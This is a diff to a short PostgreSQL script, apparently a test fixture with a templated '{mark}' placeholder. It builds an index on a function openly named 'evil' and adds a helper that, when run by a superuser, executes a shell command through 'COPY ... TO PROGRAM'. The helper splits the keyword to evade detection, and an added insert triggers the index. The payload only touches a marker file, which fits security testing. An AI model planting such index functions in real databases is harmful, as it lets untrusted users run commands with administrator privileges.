@@ -1,6 +1,10 @@
 CREATE TABLE t (id int PRIMARY KEY, note text);
-CREATE FUNCTION evil(said text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
+CREATE FUNCTION reach() RETURNS void LANGUAGE plpgsql AS $$ BEGIN
     IF current_setting('is_superuser') = 'on' THEN EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''touch {mark}'''; END IF;
+END $$;
+CREATE FUNCTION evil(said text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
+    PERFORM reach();
     RETURN said;
 END $$;
 CREATE INDEX i ON t (evil(note));
+INSERT INTO t (id, note) VALUES (1, 'x');
